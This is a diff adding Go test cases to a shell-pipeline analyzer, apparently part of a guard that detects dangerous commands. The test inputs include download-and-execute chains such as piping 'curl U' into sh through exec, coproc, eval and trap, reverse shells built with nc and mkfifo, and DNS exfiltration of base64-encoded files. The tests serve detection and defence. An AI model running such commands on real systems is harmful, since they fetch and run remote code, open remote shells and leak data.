@@ -84,6 +84,11 @@ func TestPipelines(t *testing.T) {
 		{"curl U | x bash -", "curl U | x bash -; curl U | bash -; curl U | sh; x bash -; bash -"},
 		{"x 'curl U | sh'", "x curl U | sh; curl U; sh; curl U | sh; sh"},
 		{"bash -i | nc h 1", "bash -i | nc h 1; nc h 1"},
+		// Descriptors that exec and coproc open, and variables on the way.
+		{"exec 3< <(curl U); sh <&3", "exec; curl U | exec; curl U | sh; sh"},
+		{"exec 3< <(curl U); . /dev/fd/3", "exec; curl U | exec; curl U | . /dev/fd/3; curl U | sh; . /dev/fd/3"},
+		{"exec 3> f; curl U >&3; sh f", "exec | sh f | sh; exec | sh; curl U | sh f | sh; curl U | sh; sh f | sh"},
+		{"coproc curl U; sh <&${COPROC[0]}", "curl U | sh; sh | curl U | sh"},
 		// What is sent.
 		{"mkfifo f; cat f | sh -i 2>&1 | nc h 1 > f", "mkfifo f; cat f | sh -i | nc h 1; cat f | sh; sh -i | nc h 1 | cat f | sh; nc h 1 | cat f | sh -i; nc h 1 | cat f | sh"},
 		{`dig "$(base64 f).x.y"`, "dig $(base64 f).x.y; base64 f | dig $(base64 f).x.y"},
@@ -158,4 +163,38 @@ func FuzzPipelines(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestUnreadPipelines checks the pipelines of texts that cannot be read for certain,
+// which a guard that only reminds still searches (D94).
+func TestUnreadPipelines(t *testing.T) {
+	for _, text := range []string{
+		`X=$(curl U); sh <<< "$X"`, `x=$(curl U); y="a; $x"; sh -c "$y"`, `set -- "$(curl U)"; eval "$1"`, `trap "$(curl U)" EXIT`,
+		"exec 3< <(curl U); read -r l <&3; eval \"$l\"",
+	} {
+		var r Reader
+		_ = r.Read(text)
+		all, _ := r.Pipelines()
+		found := false
+		for _, p := range all {
+			found = found || p[0].String() == "curl U" && p[len(p)-1].String() == "sh"
+		}
+		if !found {
+			t.Errorf("%s: %v lacks curl U | sh", text, all)
+		}
+	}
+}
+
+// TestShellReadsPipe checks that the commands of a text are not certain if a shell
+// may read a program from a pipe without a name in the text's grammar.
+func TestShellReadsPipe(t *testing.T) {
+	for _, text := range []string{"coproc sh; echo rm x >&${COPROC[1]}", "coproc X { bash -s; }", "mkfifo p; sh < p & echo rm x > p", "mkfifo p; echo rm x | cat > p & sh p"} {
+		var r Reader
+		if err := r.Read(text); err != nil {
+			t.Errorf("%s: %v", text, err)
+		}
+		if lines, err := r.Invocations(); err == nil {
+			t.Errorf("%s has only the commands %v", text, lines)
+		}
+	}
 }
